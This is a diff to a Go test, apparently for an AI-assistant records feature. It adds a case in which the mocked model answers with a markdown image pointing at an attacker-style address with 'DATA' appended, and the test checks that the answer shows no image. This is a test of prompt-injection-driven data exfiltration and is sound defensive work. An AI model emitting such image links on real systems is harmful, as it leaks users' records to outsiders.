@@ -226,6 +226,15 @@ func TestLeakInstructionCarriesRecordsOut(t *testing.T) {
 				t.Errorf("%d: the answer carries data out: %s", status, result.Answer)
 			}
 		}
+		// The very address that the record holds may be told, but not be fetched by showing
+		// it.
+		w.model.say = "![](" + evil + "DATA)"
+		_, shown := send(t, w, w.rita.token, http.MethodPost, "/api/ask", m{"employee": "helper", "question": `query_records {"collection":"opportunities"}`})
+		var result struct{ Answer string }
+		w.must(json.Unmarshal([]byte(shown), &result))
+		if strings.Contains(result.Answer, "![") {
+			t.Errorf("the answer shows an image of an outsider's: %s", result.Answer)
+		}
 		w.model.say = ""
 		// A client that can tell data from instructions is told which it is.
 		_, text := send(t, w, w.rita.token, http.MethodPost, "/mcp", m{
